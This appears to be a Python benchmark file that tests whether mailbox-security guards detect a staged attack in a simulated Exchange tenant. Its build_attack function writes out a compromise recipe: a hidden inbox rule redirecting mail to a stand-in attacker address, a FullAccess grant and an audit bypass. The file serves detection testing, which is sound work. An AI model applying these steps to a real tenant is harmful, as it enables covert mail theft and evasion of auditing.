"""Measures ticks of the audit logs: one in which nothing is new, and one after three acts.

The guards concerned have seen the tenant before. Somebody then adds a rule that no view shows,
gives full access to a mailbox and takes one out of audit, and the next tick reads the records of
that: it is an error where a guard did not look, or found nothing.
"""

import asyncio
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from typing import Any

from bench.detection import ACTS
from bench.environment import BenchEnvironment, BenchError
from bench.feed import FEED_SETTINGS
from bench.results import FEED, FIRST_RUN, NO_NEWS, THREE_ACTS, Measurement
from bench.runs import run_client, run_guard
from bench.tenant_generator import TenantSpec, build_mailbox

# An edit is the effect of an act some seconds ago, and windows of the feed end before now.
SERVED_AFTER_SECONDS = 8.0
THIEF = {
    "userPrincipalName": "eve@contoso.example",
    "id": "44444444-0000-4000-8000-00000000000e",
    "ipAddress": "198.51.100.9",
}


def build_attack(spec: TenantSpec) -> dict[str, Any]:
    """What somebody does to the first mailbox of a person: one edit an act."""
    number = next(
        one for one in range(spec.mailboxes) if spec.get_mailbox_kind(one) == "UserMailbox"
    )
    _, seat = build_mailbox(spec, number)
    rule = {
        "Identity": f"{seat.address}\\77",
        "RuleIdentity": "77",
        "Name": ".",
        "Enabled": True,
        "RedirectTo": ["drop@evil.example"],
        "@sandbox.hidden": True,
    }
    right = {
        "Identity": seat.address,
        "User": "S-1-5-21-1-2-3-4",
        "AccessRights": ["FullAccess"],
        "IsInherited": False,
        "Deny": False,
    }
    bypass = f"/exchange/Get-MailboxAuditBypassAssociation/{seat.guid}/AuditBypassEnabled"
    return {
        "actor": THIEF,
        "edit": [
            {"op": "add", "path": f"/exchange/Get-InboxRule/{seat.address}/-", "value": rule},
            {"op": "set", "path": "/exchange/Get-MailboxPermission", "value": [right]},
            {"op": "set", "path": bypass, "value": True},
        ],
    }


async def run_tick(environment: BenchEnvironment, occasion: str) -> Measurement:
    """Measures one reading of the logs with the looks it leads to; its note names the guards that
    found something new.
    """
    environ = environment.build_app_settings() | FEED_SETTINGS
    row = await run_client(environment, FEED, occasion, {"client": "tick", "environ": environ})
    return replace(row, read=environment.spec.mailboxes)


async def measure_ticks(
    environment: BenchEnvironment, report_progress: Callable[[str], None]
) -> AsyncIterator[Measurement]:
    """Measures both ticks in a tenant whose guards have run. Raises BenchError."""
    size = f"{environment.spec.mailboxes:,} mailboxes"
    edit = {"op": "set", "path": "/activity", "value": {"delayMinutes": 0}}
    await environment.change_tenant("scene", {"edit": [edit]})
    # The first reading ever begins subscriptions, and any takes what happened in the bench so far.
    await run_tick(environment, FIRST_RUN)
    await asyncio.sleep(SERVED_AFTER_SECONDS)
    report_progress(f"{size}: {FEED}, {NO_NEWS}")
    yield await run_tick(environment, NO_NEWS)
    await environment.change_tenant("scene", build_attack(environment.spec))
    await asyncio.sleep(SERVED_AFTER_SECONDS)
    report_progress(f"{size}: {FEED}, {THREE_ACTS}")
    row = await run_tick(environment, THREE_ACTS)
    missing = {act.guard for act in ACTS}.difference(row.note.split(", "))
    if missing:
        raise BenchError(f"{size}: {', '.join(sorted(missing))} saw nothing; {row.note}")
    yield row


async def prepare_guards(environment: BenchEnvironment) -> None:
    """Lets the guards concerned see the tenant, so that what comes later is news."""
    async with environment.without_latency():
        for act in ACTS:
            await run_guard(environment, act.guard, FIRST_RUN)
